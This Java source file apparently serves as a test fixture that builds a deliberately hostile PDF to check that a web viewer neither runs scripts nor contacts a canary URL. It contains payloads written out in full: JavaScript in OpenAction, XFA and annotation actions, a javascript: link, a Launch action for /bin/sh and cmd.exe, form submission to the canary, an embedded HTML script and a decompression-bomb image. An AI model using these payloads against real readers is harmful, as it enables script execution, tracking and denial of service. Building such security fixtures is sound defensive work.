package org.shuyuan.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** A PDF that tries, by every action that the format has, to run a script or to tell {@code canary} that it is read. */
record HostilePdf(String canary) {

    static final String FIRST = "Readable first page";
    static final String LAST = "Readable last page";
    static final int PAGES = 6;

    private static final String SCRIPT =
            "app.alert('hacked'); app.launchURL('CANARY/by-script', true); this.submitForm('CANARY/by-form'); "
                    + "for (const w of [globalThis]) { try { w.top.hacked = 1; w.top.document.title = 'hacked' } catch (e) {} }";

    Path in(Path folder) throws IOException {
        RawPdf pdf = new RawPdf();
        pdf.add("");
        pdf.add("");
        int font = pdf.add("<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>");
        int attached = pdf.stream("/Type/EmbeddedFile/Subtype/text#2Fhtml", bytes("<script>top.hacked=1</script>"));
        int file = pdf.add("<</Type/Filespec/F(deed.html)/UF(deed.html)/EF<</F %d 0 R>>>>".formatted(attached));
        int xfa = pdf.stream(
                "",
                bytes(
                        "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"initialize\">"
                                + "<script contentType=\"application/x-javascript\">" + script()
                                + "</script></event></subform></template></xdp:xdp>"));
        int field = pdf.add(
                "<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[72 500 300 560]/A<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>>>/AA<</E %s/D %s>>>>"
                        .formatted(canary, javascript(), javascript()));
        int link = annotation("<</S/URI/URI(%s/uri)>>".formatted(canary), pdf, 400);
        int evil = annotation("<</S/URI/URI(javascript:top.hacked=1)>>", pdf, 340);
        int launch = annotation("<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>", pdf, 280);
        int away = annotation("<</S/GoToR/F(%s/remote.pdf)/D[0/Fit]>>".formatted(canary), pdf, 220);
        int movie = pdf.add("<</Type/Annot/Subtype/RichMedia/Rect[72 100 200 200]/A<</S/Rendition/JS(%s)>>>>"
                .formatted(escaped(script())));
        String annotations =
                "/Annots[%d 0 R %d 0 R %d 0 R %d 0 R %d 0 R %d 0 R]".formatted(field, link, evil, launch, away, movie);
        int[] leaves = {
            page(
                    pdf,
                    font,
                    "[0 0 595 842]",
                    line(FIRST),
                    annotations + "/AA<</O %s/C %s>>".formatted(javascript(), javascript())),
            // As high as the sky, and as wide as the sea.
            page(pdf, font, "[0 0 10 14400000]", line("high"), ""),
            page(pdf, font, "[0 0 14400000 10]", line("wide"), ""),
            page(pdf, font, "[0 0 0 0]", line("nothing"), ""),
            bomb(pdf, font),
            page(pdf, font, "[0 0 595 842]", line(LAST), ""),
        };
        StringBuilder kids = new StringBuilder();
        for (int leaf : leaves) {
            kids.append(leaf).append(" 0 R ");
        }
        pdf.set(2, "<</Type/Pages/Count %d/Kids[%s]>>".formatted(PAGES, kids));
        pdf.set(
                1,
                "<</Type/Catalog/Pages 2 0 R/OpenAction %1$s/AA<</WC %1$s/DS %1$s>>/Names<</JavaScript<</Names[(a)%1$s]>>/EmbeddedFiles<</Names[(deed.html)%2$d 0 R]>>>>/AcroForm<</Fields[%3$d 0 R]/XFA %4$d 0 R/NeedAppearances true>>/URI<</Base(%5$s/base/)>>>>"
                        .formatted(javascript(), file, field, xfa, canary));
        return pdf.write(folder.resolve("坏页.pdf"));
    }

    private static int annotation(String action, RawPdf pdf, int bottom) {
        return pdf.add("<</Type/Annot/Subtype/Link/Rect[72 %d 300 %d]/Border[0 0 1]/A%s>>"
                .formatted(bottom, bottom + 50, action));
    }

    private static int page(RawPdf pdf, int font, String box, byte[] content, String more) {
        int stream = pdf.stream("", content);
        return pdf.add("<</Type/Page/Parent 2 0 R/MediaBox%s/Resources<</Font<</F %d 0 R>>>>/Contents %d 0 R%s>>"
                .formatted(box, font, stream, more));
    }

    /** A picture of a hundred thousand by a hundred thousand in a few kilobytes. */
    private static int bomb(RawPdf pdf, int font) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_COMPRESSION))) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 64; i++) {
                deflate.write(zeros);
            }
        }
        int image = pdf.stream(
                "/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
                packed.toByteArray());
        int stream = pdf.stream("", bytes("BT /F 24 Tf 72 700 Td (bomb) Tj ET q 400 0 0 400 72 200 cm /I Do Q"));
        return pdf.add(
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F %d 0 R>>/XObject<</I %d 0 R>>>>/Contents %d 0 R>>"
                        .formatted(font, image, stream));
    }

    private static byte[] line(String words) {
        return bytes("BT /F 24 Tf 72 700 Td (%s) Tj ET".formatted(words));
    }

    private String javascript() {
        return "<</S/JavaScript/JS(%s)>>".formatted(escaped(script()));
    }

    private String script() {
        return SCRIPT.replace("CANARY", canary);
    }

    private static String escaped(String text) {
        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)");
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
